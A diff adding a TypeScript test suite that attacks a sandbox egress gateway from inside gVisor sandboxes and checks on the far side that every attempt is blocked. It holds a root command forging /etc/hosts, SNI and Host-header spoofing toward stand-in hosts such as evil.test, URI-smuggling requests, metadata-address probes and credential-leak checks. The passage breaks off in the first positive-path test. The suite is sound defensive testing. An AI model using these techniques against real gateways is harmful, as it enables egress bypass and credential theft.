@@ -1,0 +1,1865 @@
+/**
+ * The egress attack suite (issue 3; ../shared/cases/egress.md E1–E5; ../shared/reference/egress.md
+ * §2 T01–T26). Every attack runs from inside a real gVisor sandbox of a real single-node stack with
+ * the real gateway, against an "outside world" in network namespaces of its own:
+ *
+ * - `atk-<tag>`: 10.198.<n>.0/24 — good (pkg/good.allowed.test, good.shared.test and the forbidden
+ *   evil.shared.test on the same address), evil (evil.test, also an "alternate resolver"), cred
+ *   (api.cred.test, checks the real credential), the authoritative DNS server for *.test; plus
+ *   10.198.<n+1>.10 "internal" (in the gateway's deny set) and 169.254.169.254 "metadata" (reached
+ *   only through a policy route for this stack's sandbox pool, so the host's own metadata service is
+ *   never touched).
+ *
+ * Each attack is judged on the FAR SIDE: the world's hit log (every connection, request, datagram
+ * and DNS query), nftables counters inside the world namespace (any packet to evil/internal/metadata,
+ * ICMP echo, non-DNS UDP, a source other than the host end, IPv6), a canary listener on the host, a
+ * listener in another sandbox — and, where useful, the gateway's audit lines and the sandbox's own
+ * view. An attempt whose script did not report back counts as NOT blocked.
+ *
+ * Prints `N attempts, M blocked, K escaped` and a table; fails unless every attempt was blocked.
+ */
+import { type ChildProcess, execFile, spawn } from 'node:child_process';
+import { randomBytes } from 'node:crypto';
+import { createSocket, type Socket as UdpSocket } from 'node:dgram';
+import { once } from 'node:events';
+import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
+import { createServer as createNetServer, type Server } from 'node:net';
+import { networkInterfaces, tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { connect as tlsConnect } from 'node:tls';
+import { fileURLToPath } from 'node:url';
+import { promisify } from 'node:util';
+import { pino } from 'pino';
+import { request } from 'undici';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { WorldConfig } from './attack-world.ts';
+import { collect, leftovers, readEvents, type Stack, startStack } from './stack.ts';
+
+const run = promisify(execFile);
+const TAG = randomBytes(2).toString('hex');
+const NS = `atk-${TAG}`;
+const HOST_IF = `atkh${TAG}`;
+const NS_IF = `atkn${TAG}`;
+const N = 2 * (Number.parseInt(TAG, 16) % 120) + 2; // 10.198.<N>.0/24 world, <N+1> internal
+const NET = `10.198.${N}`;
+const W = {
+  host: `${NET}.1`,
+  good: `${NET}.2`,
+  evil: `${NET}.3`,
+  cred: `${NET}.4`,
+  dns: `${NET}.53`,
+  internal: `10.198.${N + 1}.10`,
+  meta: '169.254.169.254',
+};
+const RT_TABLE = String(19_800 + N);
+const REAL = `sk-real-${randomBytes(20).toString('hex')}`;
+const HANDSHAKE_MS = 2000;
+const MAX_CONNS = 16;
+
+const ALLOWED = [
+  'pkg.allowed.test',
+  'good.allowed.test',
+  'good.shared.test',
+  'rebind.allowed.test',
+  'meta.allowed.test',
+  'loop.allowed.test',
+];
+const POLICY = { allow: ALLOWED };
+/** Names the gateway may ever ask its upstream about (the policies' names + the credential host). */
+const UPSTREAM_OK = new Set([...ALLOWED, 'api.cred.test']);
+const RECORDS: Record<string, string> = {
+  'pkg.allowed.test': W.good,
+  'good.allowed.test': W.good,
+  'xpkg.allowed.test': W.good,
+  'good.shared.test': W.good,
+  'evil.shared.test': W.good, // E2: a forbidden name on the allowed address
+  'api.cred.test': W.cred,
+  'rebind.allowed.test': W.internal, // T04: allowed names resolving into the deny set
+  'meta.allowed.test': W.meta,
+  'loop.allowed.test': '127.0.0.1',
+  'evil.test': W.evil,
+  '*.evil.test': W.evil,
+};
+/** The gateway's deny set: every private range except the world's /24, plus the internal /24. */
+const DENY = [
+  '10.0.0.0/9',
+  '10.128.0.0/10',
+  '10.192.0.0/14',
+  '10.196.0.0/15',
+  ...splitAround198(N),
+  '10.199.0.0/16',
+  '10.200.0.0/13',
+  '10.208.0.0/12',
+  '10.224.0.0/11',
+  `10.198.${N + 1}.0/24`,
+  '100.64.0.0/10',
+  '172.16.0.0/12',
+  '192.0.0.0/24',
+  '192.0.2.0/24',
+  '192.168.0.0/16',
+  '198.18.0.0/15',
+  '198.51.100.0/24',
+  '203.0.113.0/24',
+  'fc00::/7',
+];
+
+/** 10.198.0.0/16 minus 10.198.<n>.0/24 (the world) as CIDRs. */
+function splitAround198(n: number): string[] {
+  const out: string[] = [];
+  // walk prefixes /17../24: at each level, the half not containing n is denied
+  let base = 0;
+  for (let len = 17; len <= 24; len++) {
+    const size = 2 ** (24 - len); // in /24 units
+    const half = n >= base + size ? base : base + size;
+    if (n >= base + size) base += size;
+    out.push(`10.198.${half}.0/${len}`);
+  }
+  return out;
+}
+
+// ---------- far side ----------
+
+interface Hit {
+  t: number;
+  role: string;
+  kind: string;
+  port?: number;
+  host?: string | null;
+  sni?: string | null;
+  url?: string;
+  name?: string | null;
+  auths?: string[];
+  [k: string]: unknown;
+}
+
+let tmp = '';
+let s: Stack;
+let world: ChildProcess | null = null;
+const hits: Hit[] = [];
+const audit: Record<string, unknown>[] = [];
+const canary: { proto: string; from: string }[] = [];
+let canaryPort = 0;
+const cleanups: (() => Promise<unknown>)[] = [];
+/** The latency phase may use the direct CIDR path to good:8443. */
+let direct8443 = false;
+
+async function sh(cmd: string, args: string[]): Promise<string> {
+  return (await run(cmd, args, { timeout: 15_000 })).stdout;
+}
+
+async function makeCerts(): Promise<void> {
+  const o = (args: string[]) => sh('openssl', args);
+  const ec = ['-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:P-256', '-nodes'];
+  await o(
+    ['req', '-x509', ...ec, '-keyout', join(tmp, 'ca.key'), '-out', join(tmp, 'ca.crt')].concat([
+      '-days',
+      '1',
+      '-subj',
+      '/CN=atk test CA',
+    ]),
+  );
+  await o(
+    ['req', ...ec, '-keyout', join(tmp, 'leaf.key'), '-out', join(tmp, 'leaf.csr')].concat([
+      '-subj',
+      '/CN=good.allowed.test',
+    ]),
+  );
+  await writeFile(
+    join(tmp, 'ext.cnf'),
+    'subjectAltName=DNS:*.allowed.test,DNS:good.shared.test,DNS:evil.shared.test,DNS:evil.test,DNS:*.evil.test,DNS:api.cred.test\n',
+  );
+  await o([
+    'x509',
+    '-req',
+    '-in',
+    join(tmp, 'leaf.csr'),
+    '-CA',
+    join(tmp, 'ca.crt'),
+    '-CAkey',
+    join(tmp, 'ca.key'),
+    '-CAcreateserial',
+    '-out',
+    join(tmp, 'leaf.crt'),
+    '-days',
+    '1',
+    '-extfile',
+    join(tmp, 'ext.cnf'),
+  ]);
+}
+
+async function makeWorld(): Promise<void> {
+  await sh('ip', ['netns', 'add', NS]);
+  cleanups.push(() => run('ip', ['netns', 'del', NS]));
+  await sh('ip', ['link', 'add', HOST_IF, 'type', 'veth', 'peer', 'name', NS_IF, 'netns', NS]);
+  cleanups.push(() => run('ip', ['link', 'del', HOST_IF]));
+  await writeFile(`/proc/sys/net/ipv6/conf/${HOST_IF}/disable_ipv6`, '1');
+  // replies to sandboxes' direct (CIDR-rule) connections come back on this link and are forwarded
+  await writeFile(`/proc/sys/net/ipv4/conf/${HOST_IF}/forwarding`, '1');
+  await sh('ip', ['addr', 'add', `${W.host}/24`, 'dev', HOST_IF]);
+  await sh('ip', ['link', 'set', HOST_IF, 'up']);
+  await sh('ip', ['netns', 'exec', NS, 'sysctl', '-qw', 'net.ipv6.conf.all.disable_ipv6=1']);
+  for (const a of [
+    `${W.good}/24`,
+    `${W.evil}/24`,
+    `${W.cred}/24`,
+    `${W.dns}/24`,
+    `${W.internal}/24`,
+    `${W.meta}/32`,
+  ])
+    await sh('ip', ['-n', NS, 'addr', 'add', a, 'dev', NS_IF]);
+  await sh('ip', ['-n', NS, 'link', 'set', NS_IF, 'up']);
+  await sh('ip', ['-n', NS, 'link', 'set', 'lo', 'up']);
+  await sh('ip', ['route', 'add', `10.198.${N + 1}.0/24`, 'via', W.good, 'dev', HOST_IF]);
+  // far-side packet counters inside the world
+  const counters = ['evil', 'internal', 'icmp', 'udp_other', 'spoofed', 'ipv6', 'good_other'];
+  const nft = [
+    'table inet atkw {',
+    ...counters.map((c) => `  counter n_${c} {}`),
+    '  chain pre {',
+    '    type filter hook prerouting priority -300; policy accept;',
+    '    meta nfproto ipv6 counter name n_ipv6',
+    `    ip daddr ${W.evil} counter name n_evil`,
+    `    ip daddr { ${W.internal}, ${W.meta} } counter name n_internal`,
+    '    icmp type echo-request counter name n_icmp',
+    '    udp dport != 53 counter name n_udp_other',
+    `    ip saddr != ${W.host} counter name n_spoofed`,
+    `    ip daddr ${W.good} tcp dport != { 80, 443, 8443 } counter name n_good_other`,
+    `    ip daddr ${W.good} meta l4proto udp counter name n_good_other`,
+    '  }',
+    '}',
+    '',
+  ].join('\n');
+  await writeFile(join(tmp, 'world.nft'), nft);
+  await sh('ip', ['netns', 'exec', NS, 'nft', '-f', join(tmp, 'world.nft')]);
+}
+
+async function counters(): Promise<Record<string, number>> {
+  const out = JSON.parse(await sh('ip', ['netns', 'exec', NS, 'nft', '-j', 'list', 'counters'])) as {
+    nftables: { counter?: { name: string; packets: number } }[];
+  };
+  const c: Record<string, number> = {};
+  for (const e of out.nftables) if (e.counter) c[e.counter.name.replace(/^n_/, '')] = e.counter.packets;
+  return c;
+}
+
+async function startWorld(): Promise<void> {
+  const cfg: WorldConfig = {
+    roles: { good: W.good, evil: W.evil, cred: W.cred, internal: W.internal, meta: W.meta },
+    dnsAddress: W.dns,
+    certFile: join(tmp, 'leaf.crt'),
+    keyFile: join(tmp, 'leaf.key'),
+    records: RECORDS,
+    credValue: REAL,
+  };
+  const script = fileURLToPath(new URL('./attack-world.ts', import.meta.url));
+  const child = spawn('ip', ['netns', 'exec', NS, process.execPath, script, JSON.stringify(cfg)], {
+    stdio: ['ignore', 'pipe', 'pipe'],
+  });
+  world = child;
+  cleanups.push(async () => {
+    if (child.exitCode === null && child.signalCode === null) {
+      child.kill('SIGKILL');
+      await once(child, 'exit');
+    }
+  });
+  let stderr = '';
+  child.stderr!.on('data', (d: Buffer) => {
+    stderr += d.toString();
+  });
+  let buffered = '';
+  await new Promise<void>((resolve, reject) => {
+    const timer = setTimeout(() => reject(new Error(`world not ready: ${stderr}`)), 20_000);
+    child.once('exit', (code) => reject(new Error(`world exited ${code}: ${stderr}`)));
+    child.stdout!.on('data', (d: Buffer) => {
+      buffered += d.toString();
+      let nl = buffered.indexOf('\n');
+      while (nl >= 0) {
+        const line = buffered.slice(0, nl);
+        buffered = buffered.slice(nl + 1);
+        if (line === 'READY') {
+          clearTimeout(timer);
+          resolve();
+        } else if (line.startsWith('{')) hits.push(JSON.parse(line) as Hit);
+        nl = buffered.indexOf('\n');
+      }
+    });
+  });
+}
+
+/** A TCP (dual-stack) and UDP listener on the host: any sandbox packet reaching it is an escape. */
+async function startCanary(): Promise<void> {
+  const tcp: Server = createNetServer((c) => {
+    canary.push({ proto: 'tcp', from: String(c.remoteAddress) });
+    c.destroy();
+  });
+  tcp.listen(0, '::');
+  await once(tcp, 'listening');
+  canaryPort = (tcp.address() as { port: number }).port;
+  const udp: UdpSocket = createSocket({ type: 'udp6', ipv6Only: false });
+  udp.on('message', (_m, r) => canary.push({ proto: 'udp', from: r.address }));
+  await new Promise<void>((resolve) => udp.bind(canaryPort, '::', () => resolve()));
+  cleanups.push(async () => {
+    tcp.close();
+    udp.close();
+  });
+}
+
+/** The host's own (non-sandbox, non-test) addresses: where a hairpin to host services would go. */
+function hostAddresses(): { v4: string[]; v6: string[] } {
+  const v4: string[] = [];
+  const v6: string[] = [];
+  for (const [name, list] of Object.entries(networkInterfaces())) {
+    if (/^(spv|atk|gwt|lo)/.test(name)) continue;
+    for (const a of list ?? []) {
+      if (a.internal) continue;
+      if (a.family === 'IPv4') v4.push(a.address);
+      else if (!a.address.startsWith('fe80')) v6.push(a.address);
+    }
+  }
+  return { v4: v4.slice(0, 2), v6: v6.slice(0, 2) };
+}
+
+/** A real ClientHello (for slowloris), from Node's TLS stack. */
+async function captureHello(sni: string): Promise<Buffer> {
+  const server = createNetServer();
+  server.listen(0, '127.0.0.1');
+  await once(server, 'listening');
+  const got = new Promise<Buffer>((resolve) =>
+    server.once('connection', (c) =>
+      c.once('data', (d: Buffer) => {
+        resolve(d);
+        c.destroy();
+      }),
+    ),
+  );
+  const c = tlsConnect({
+    host: '127.0.0.1',
+    port: (server.address() as { port: number }).port,
+    servername: sni,
+  });
+  c.on('error', () => {});
+  const hello = await got;
+  c.destroy();
+  server.close();
+  return hello;
+}
+
+// ---------- attempts and verdicts ----------
+
+type Out = Record<string, unknown> & { stage?: string; data?: string; err?: string };
+/** null: blocked; 'residual: …' documented residual risk; 'invalid: …' the attack did not do what it should; else: escape. */
+type Judge = (out: Out, far: Hit[]) => string | null;
+interface Attempt {
+  id: string;
+  t: string;
+  what: string;
+  kind: string;
+  judge?: Judge;
+  [param: string]: unknown;
+}
+interface Row {
+  t: string;
+  id: string;
+  sandbox: string;
+  verdict: 'blocked' | 'escaped' | 'not-run' | 'residual' | 'invalid';
+  note: string;
+}
+const rows: Row[] = [];
+/** Every byte any sandbox printed (checked for the real credential at the end). */
+let allOutput = '';
+
+const atk = (
+  t: string,
+  id: string,
+  what: string,
+  kind: string,
+  params: Record<string, unknown>,
+  judge?: Judge,
+) => ({ t, id, what, kind, judge, ...params }) as Attempt;
+
+/** A far-side hit that must never happen (whoever caused it). */
+function forbidden(h: Hit): string | null {
+  if (h.role === 'evil' || h.role === 'internal' || h.role === 'meta')
+    return `${h.role} received ${h.kind}${h.port ? `:${h.port}` : ''}${h.name ? ` ${h.name}` : ''}`;
+  if (h.role === 'dns' && !UPSTREAM_OK.has(String(h.name))) return `upstream DNS asked ${h.name} (${h.type})`;
+  if (h.role === 'good') {
+    if (h.kind === 'udp') return `good received UDP :${h.port}`;
+    if ((h.kind === 'tcp' || h.kind === 'tcp-data') && ![80, 443, 8443].includes(h.port ?? 0))
+      return `good received TCP :${h.port}`;
+    if (h.port === 8443 && !direct8443) return 'good:8443 reached without a CIDR rule';
+    if (h.kind === 'http' || h.kind === 'https') {
+      for (const n of [h.host, h.sni]) {
+        if (n == null || h.url === '/e3-residual' || h.port === 8443) continue;
+        const name = String(n)
+          .toLowerCase()
+          .replace(/:80$|:443$/, '')
+          .replace(/\.$/, '');
+        if (!ALLOWED.includes(name)) return `good served name ${JSON.stringify(n)}`;
+      }
+    }
+  }
+  if (h.role === 'cred') {
+    const auths = h.auths ?? [];
+    if (String(h.url).startsWith('/refuse'))
+      return `cred received a request the gateway must refuse: ${h.url}`;
+    if (auths.length > 1) return `cred received ${auths.length} Authorization headers`;
+    if (auths.some((a) => a.includes(REAL)) && !/^\/(ok|echo|t22)/.test(String(h.url)))
+      return `real credential sent on ${h.url}`;
+    if (auths.some((a) => a.includes('attacker'))) return 'cred received the attacker-chosen Authorization';
+  }
+  return null;
+}
+
+interface Snap {
+  hits: number;
+  canary: number;
+  counters: Record<string, number>;
+}
+const snap = async (): Promise<Snap> => ({
+  hits: hits.length,
+  canary: canary.length,
+  counters: await counters(),
+});
+const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
+
+/**
+ * Runs `attempts` in one python process inside sandbox `id`, then judges each: not-run unless it
+ * reported; escaped when its own judge says so or any forbidden far-side event happened during its
+ * time window (counters and canary hits, which carry no time, blame the whole batch).
+ */
+async function batch(
+  label: string,
+  id: string,
+  attempts: Attempt[],
+  opts: { user?: 'root' | 'user'; timeoutMs?: number; parallel?: boolean } = {},
+): Promise<Map<string, Out>> {
+  const before = await snap();
+  const payload = attempts.map(({ judge: _j, t: _t, what: _w, ...p }) => p);
+  const r = await s.exec(id, {
+    cmd: 'python3',
+    args: ['/tmp/atk.py', JSON.stringify(payload), ...(opts.parallel ? ['par'] : [])],
+    user: opts.user ?? 'user',
+    timeoutMs: opts.timeoutMs ?? 60_000,
+  });
+  const text = r.stdout.toString();
+  allOutput += text + r.stderr.toString();
+  await sleep(400); // late packets and log lines
+  const after = await snap();
+  const results = new Map<string, { out: Out; t0: number; t1: number }>();
+  for (const line of text.split('\n')) {
+    if (!line.startsWith('{')) continue;
+    const j = JSON.parse(line) as { id: string; ran: boolean; out: Out; t0: number; t1: number };
+    if (j.ran) results.set(j.id, { out: j.out, t0: j.t0 * 1000, t1: j.t1 * 1000 });
+  }
+  const newHits = hits.slice(before.hits);
+  const batchWide: string[] = [];
+  for (const [k, v] of Object.entries(after.counters))
+    if (v > (before.counters[k] ?? 0)) batchWide.push(`world counter ${k} +${v - (before.counters[k] ?? 0)}`);
+  for (const c of canary.slice(before.canary)) batchWide.push(`host canary got ${c.proto} from ${c.from}`);
+  const bad = newHits.map((h) => ({ h, why: forbidden(h) })).filter((x) => x.why !== null);
+  const blamed = new Set<string>();
+  for (const { h } of bad) {
+    for (const [aid, res] of results) if (h.t >= res.t0 - 100 && h.t <= res.t1 + 300) blamed.add(aid);
+  }
+  const unattributed = bad.filter(
+    ({ h }) => ![...results.values()].some((res) => h.t >= res.t0 - 100 && h.t <= res.t1 + 300),
+  );
+  const out = new Map<string, Out>();
+  for (const a of attempts) {
+    const res = results.get(a.id);
+    if (!res) {
+      rows.push({
+        t: a.t,
+        id: a.id,
+        sandbox: label,
+        verdict: 'not-run',
+        note: `no report (exit ${JSON.stringify(r.exit)}) ${r.stderr.toString().slice(-300)}`,
+      });
+      continue;
+    }
+    out.set(a.id, res.out);
+    const window = newHits.filter((h) => h.t >= res.t0 - 100 && h.t <= res.t1 + 300);
+    const reasons: string[] = [...batchWide, ...unattributed.map((x) => x.why!)];
+    if (blamed.has(a.id)) reasons.push(...bad.filter(({ h }) => window.includes(h)).map((x) => x.why!));
+    const own = a.judge?.(res.out, window) ?? null;
+    const summary = summarise(res.out);
+    if (reasons.length > 0 || (own && !own.startsWith('residual:') && !own.startsWith('invalid:'))) {
+      rows.push({
+        t: a.t,
+        id: a.id,
+        sandbox: label,
+        verdict: 'escaped',
+        note: [...reasons, own].filter(Boolean).join('; ') + ` [${summary}]`,
+      });
+    } else if (own?.startsWith('residual:')) {
+      rows.push({ t: a.t, id: a.id, sandbox: label, verdict: 'residual', note: own.slice(9).trim() });
+    } else if (own?.startsWith('invalid:')) {
+      rows.push({
+        t: a.t,
+        id: a.id,
+        sandbox: label,
+        verdict: 'invalid',
+        note: `${own.slice(8).trim()} [${summary}]`,
+      });
+    } else {
+      rows.push({ t: a.t, id: a.id, sandbox: label, verdict: 'blocked', note: summary });
+    }
+  }
+  return out;
+}
+
+/** One-line description of what the sandbox saw. */
+function summarise(o: Out): string {
+  if (o.stage === 'response') {
+    const first = String(o.data ?? '').split('\r\n')[0] || '(no bytes)';
+    return `${first.slice(0, 60)} (${o.how})`;
+  }
+  if (o.stage === 'reply' && 'rcode' in o) return `DNS ${o.rcode} answers=${o.answers}`;
+  if (o.err) return `${o.stage}: ${String(o.err).slice(0, 70)}`;
+  const rest = { ...o };
+  delete rest.stage;
+  return `${o.stage} ${JSON.stringify(rest).slice(0, 110)}`;
+}
+
+// ---------- judges ----------
+
+const body = (o: Out) => String(o.data ?? '');
+/** The sandbox got an answer from a forbidden role (in-sandbox evidence; the far side is checked too). */
+const noForbiddenBody: Judge = (o) =>
+  /(^|\r\n\r\n|\|\|)(evil|internal|meta) /.test(body(o)) ||
+  /\b(evil|internal|meta) (http|https|tcp|udp) /.test(body(o))
+    ? `sandbox received a forbidden server's answer: ${body(o).slice(0, 80)}`
+    : null;
+/** Nothing came back at all, or a refusal from the gateway: not a real server's 200. */
+const refused: Judge = (o, far) => {
+  const f = noForbiddenBody(o, far);
+  if (f) return f;
+  if (/HTTP\/1\.1 200/.test(body(o))) return `got HTTP 200: ${body(o).slice(0, 100)}`;
+  return null;
+};
+const status =
+  (code: number): Judge =>
+  (o, far) => {
+    const f = noForbiddenBody(o, far);
+    if (f) return f;
+    if (o.stage === 'response' && !body(o).startsWith(`HTTP/1.1 ${code}`))
+      return body(o).startsWith('HTTP/1.1 200') ? `got ${body(o).slice(0, 60)}` : null;
+    return null;
+  };
+/** A direct connection must not succeed (the far side decides for servers the test owns). */
+const noConnect: Judge = (o) =>
+  o.stage === 'connected' ? `connected: ${String(o.data).slice(0, 60)}` : null;
+const noReply: Judge = (o) =>
+  o.stage === 'reply' && !('rcode' in o) ? `UDP reply from ${o.from}: ${body(o).slice(0, 40)}` : null;
+/** DNS through a non-gateway resolver address: any answer must be the gateway's (REFUSED for a forbidden name). */
+const gatewayRefused: Judge = (o) =>
+  o.stage === 'reply' && o.rcode !== 'REFUSED' ? `resolver answered ${o.rcode} (${o.answers} answers)` : null;
+const notServed =
+  (marker: string): Judge =>
+  (o, far) =>
+    noForbiddenBody(o, far) ?? (body(o).includes(marker) ? `served: ${body(o).slice(0, 80)}` : null);
+const noReal: Judge = (o) =>
+  JSON.stringify(o).includes(REAL) ? 'the real credential reached the sandbox' : null;
+
+// ---------- attack sets ----------
+
+const tls = (ip: string, sni: string | null, extra: Record<string, unknown> = {}) => ({
+  ip,
+  port: 443,
+  sni,
+  ...extra,
+});
+const get = (path: string, host: string, headers: string[] = []) =>
+  `GET ${path} HTTP/1.1\r\nHost: ${host}\r\n${headers.map((h) => `${h}\r\n`).join('')}Connection: close\r\n\r\n`;
+
+/** E1–E3 and an IP literal: run in every E4 variant. */
+function coreAttacks(withCredential: boolean): Attempt[] {
+  const list = [
+    atk(
+      'E1',
+      'e1-resolve',
+      'the forged /etc/hosts entry is in effect',
+      'resolve',
+      { name: 'pkg.allowed.test', family: 2 },
+      (o) =>
+        JSON.stringify(o.addrs) === JSON.stringify([W.evil])
+          ? null
+          : `invalid: /etc/hosts forging not in effect: ${JSON.stringify(o)}`,
+    ),
+    atk(
+      'E1',
+      'e1-https',
+      'HTTPS to pkg.allowed.test forged to evil',
+      'tls',
+      tls('pkg.allowed.test', 'pkg.allowed.test', { resolve: true, path: '/e1' }),
+      noForbiddenBody,
+    ),
+    atk(
+      'E1',
+      'e1-http',
+      'HTTP to pkg.allowed.test forged to evil',
+      'http',
+      { ip: 'pkg.allowed.test', port: 80, resolve: true, req: get('/e1', 'pkg.allowed.test') },
+      noForbiddenBody,
+    ),
+    atk(
+      'E1',
+      'e1-urllib-https',
+      'urllib https:// (forged)',
+      'urllib',
+      { url: 'https://pkg.allowed.test/e1u' },
+      noForbiddenBody,
+    ),
+    atk(
+      'E1',
+      'e1-urllib-http',
+      'urllib http:// (forged)',
+      'urllib',
+      { url: 'http://pkg.allowed.test/e1u' },
+      noForbiddenBody,
+    ),
+    atk(
+      'E1',
+      'e1-internal',
+      'HTTPS to good.allowed.test forged to the internal server',
+      'tls',
+      tls('good.allowed.test', 'good.allowed.test', { resolve: true, path: '/e1i' }),
+      noForbiddenBody,
+    ),
+    atk(
+      'E2',
+      'e2-sni',
+      'SNI evil.shared.test to the shared address',
+      'tls',
+      tls(W.good, 'evil.shared.test', { path: '/e2' }),
+      notServed('good https'),
+    ),
+    atk(
+      'E2',
+      'e2-host',
+      'Host evil.shared.test to the shared address',
+      'http',
+      { ip: W.good, port: 80, req: get('/e2', 'evil.shared.test') },
+      status(403),
+    ),
+    atk(
+      'E2',
+      'e2-dns',
+      'DNS evil.shared.test',
+      'dns',
+      { ip: W.host, name: 'evil.shared.test' },
+      gatewayRefused,
+    ),
+    atk(
+      'E3',
+      'e3-http-abs',
+      'HTTP Host allowed, absolute URI evil.test',
+      'http',
+      {
+        ip: W.good,
+        port: 80,
+        req: 'GET http://evil.test/e3 HTTP/1.1\r\nHost: pkg.allowed.test\r\nConnection: close\r\n\r\n',
+      },
+      status(403),
+    ),
+    atk(
+      'E3',
+      'e3-http-userinfo',
+      'absolute URI http://pkg.allowed.test@evil.test/',
+      'http',
+      {
+        ip: W.good,
+        port: 80,
+        req: 'GET http://pkg.allowed.test@evil.test/e3 HTTP/1.1\r\nHost: pkg.allowed.test\r\nConnection: close\r\n\r\n',
+      },
+      status(403),
+    ),
+    atk(
+      'T05',
+      'ip-http-evil',
+      'HTTP to the evil IP, Host = the IP',
+      'http',
+      { ip: W.evil, port: 80, req: get('/ip', W.evil) },
+      status(403),
+    ),
+    atk(
+      'T05',
+      'ip-https-evil',
+      'HTTPS to the evil IP without SNI',
+      'tls',
+      tls(W.evil, null, { host: W.evil, path: '/ip' }),
+      refused,
+    ),
+    atk('T05', 'ip-tcp-evil', 'raw TCP to the evil IP :8080', 'tcp', { ip: W.evil, port: 8080 }, noConnect),
+  ];
+  if (withCredential) {
+    list.push(
+      atk(
+        'E3',
+        'e3-intercepted',
+        'intercepted TLS: SNI api.cred.test, Host evil.test',
+        'tls',
+        tls(W.cred, 'api.cred.test', { verify: true, req: get('/refuse-e3', 'evil.test') }),
+        status(421),
+      ),
+      atk(
+        'E3',
+        'e3-intercepted-abs',
+        'intercepted TLS: absolute-form https://evil.test/',
+        'tls',
+        tls(W.cred, 'api.cred.test', {
+          verify: true,
+          req: 'GET https://evil.test/refuse-e3b HTTP/1.1\r\nHost: api.cred.test\r\nConnection: close\r\n\r\n',
+        }),
+        status(421),
+      ),
+      atk(
+        'E3',
+        'e3-spliced-residual',
+        'spliced TLS: SNI good.shared.test, Host evil.shared.test',
+        'tls',
+        tls(W.good, 'good.shared.test', { path: '/e3-residual', host: 'evil.shared.test' }),
+        (o) =>
+          body(o).includes('host=evil.shared.test')
+            ? 'residual: spliced TLS is opaque to the gateway; a server hosting both names on the allowed address can be fronted (egress.md §0 rule 4: keep shared/CDN names off allow lists, or make them credential hosts to intercept)'
+            : null,
+      ),
+    );
+  }
+  return list;
+}
+
+// ---------- the suite ----------
+
+let A = '';
+let B = '';
+let phA = '';
+let phB = '';
+let addrA = '';
+let addrB = '';
+
+async function upload(id: string): Promise<void> {
+  const { url, token } = await s.token(id);
+  const script = await readFile(fileURLToPath(new URL('./attack-guest.py', import.meta.url)));
+  const res = await request(`${url}/files?path=${encodeURIComponent('/tmp/atk.py')}`, {
+    method: 'PUT',
+    headers: { authorization: `Bearer ${token}`, 'content-type': 'application/octet-stream' },
+    body: script,
+  });
+  const text = await res.body.text();
+  expect(res.statusCode, text).toBe(200);
+}
+
+async function forgeHosts(id: string): Promise<void> {
+  const r = await s.exec(id, {
+    cmd: 'sh',
+    args: [
+      '-c',
+      `printf '${W.evil} pkg.allowed.test\\n${W.internal} good.allowed.test\\n' >> /etc/hosts && echo FORGED`,
+    ],
+    user: 'root',
+  });
+  expect(r.stdout.toString()).toContain('FORGED');
+}
+
+async function sandbox(body: Record<string, unknown>): Promise<string> {
+  const id = await s.createSandbox({ timeoutSec: 900, ...body });
+  await upload(id);
+  return id;
+}
+
+async function placeholderOf(id: string): Promise<string> {
+  const r = await s.exec(id, { cmd: 'printenv', args: ['CRED_API'] });
+  const ph = r.stdout.toString().trim();
+  expect(ph).toMatch(/^space_ph_[a-z0-9]{32}$/);
+  return ph;
+}
+
+async function addressOf(id: string): Promise<string> {
+  const out = await batch('setup', id, [atk('setup', 'myaddr', 'own address', 'myaddr', { ip: W.good })]);
+  rows.pop(); // not an attack
+  return String(out.get('myaddr')?.addr);
+}
+
+describe('egress attack suite', () => {
+  beforeAll(async () => {
+    tmp = await mkdtemp(join(tmpdir(), 'atk-'));
+    cleanups.push(() => rm(tmp, { recursive: true, force: true }));
+    await makeCerts();
+    await makeWorld();
+    await startWorld();
+    await startCanary();
+    const log = pino(
+      { level: 'info' },
+      {
+        write(line: string) {
+          const j = JSON.parse(line) as Record<string, unknown>;
+          if (typeof j.msg === 'string' && j.msg.startsWith('egress')) audit.push(j);
+        },
+      },
+    );
+    s = await startStack(
+      {},
+      {
+        upstreamDns: `${W.dns}:53`,
+        denyCidrs: DENY.join(','),
+        upstreamCaFile: join(tmp, 'ca.crt'),
+        log,
+        env: {
+          SPACE_GATEWAY_HANDSHAKE_TIMEOUT_MS: String(HANDSHAKE_MS),
+          SPACE_GATEWAY_MAX_CONNECTIONS: String(MAX_CONNS),
+          SPACE_GATEWAY_DNS_QPS: '1000',
+          SPACE_GATEWAY_RESOLVE_TIMEOUT_MS: '1000',
+          SPACE_GATEWAY_DIAL_TIMEOUT_MS: '2000',
+        },
+      },
+    );
+    // metadata stand-in: only this stack's sandboxes' packets to 169.254.169.254 go to the world
+    await sh('ip', ['route', 'add', `${W.meta}/32`, 'via', W.good, 'dev', HOST_IF, 'table', RT_TABLE]);
+    await sh('ip', [
+      'rule',
+      'add',
+      'from',
+      s.pool,
+      'to',
+      `${W.meta}/32`,
+      'lookup',
+      RT_TABLE,
+      'pref',
+      RT_TABLE,
+    ]);
+    cleanups.push(() => run('ip', ['rule', 'del', 'pref', RT_TABLE]));
+    const cred = await s.call('PUT', '/v1/credentials/cred-api', { domains: ['api.cred.test'], value: REAL });
+    expect(cred.status).toBe(200);
+    [A, B] = await Promise.all([
+      sandbox({ egress: POLICY, credentials: ['cred-api'] }),
+      sandbox({
+        egress: {
+          ...POLICY,
+          cidrs: [
+            { cidr: `${W.good}/32`, ports: [8443] },
+            { cidr: s.pool, ports: [7000] },
+          ],
+        },
+        credentials: ['cred-api'],
+      }),
+    ]);
+    [phA, phB, addrA, addrB] = await Promise.all([
+      placeholderOf(A),
+      placeholderOf(B),
+      addressOf(A),
+      addressOf(B),
+    ]);
+    expect(phA).not.toBe(phB);
+  }, 300_000);
+
+  afterAll(async () => {
+    try {
+      if (s) {
+        await s.stop();
+        expect(await leftovers(s)).toEqual({ links: [], runsc: [], cgroups: [] });
+      }
+    } finally {
+      for (const c of cleanups.reverse()) await c().catch(() => {});
+    }
+  }, 120_000);
+
+  it('positive path: plain allowed HTTP/HTTPS work; an injected credential reaches the upstream, never the sandbox', async () => {
+    const mark = hits.length;
+    const out = await batch('A', A, [
+      atk(
+        'POS',
+        'pos-https',
+        'HTTPS good.allowed.test',
+        'tls',
+        tls('good.allowed.test', 'good.allowed.test', { resolve: true, path: '/pos' }),
+      ),
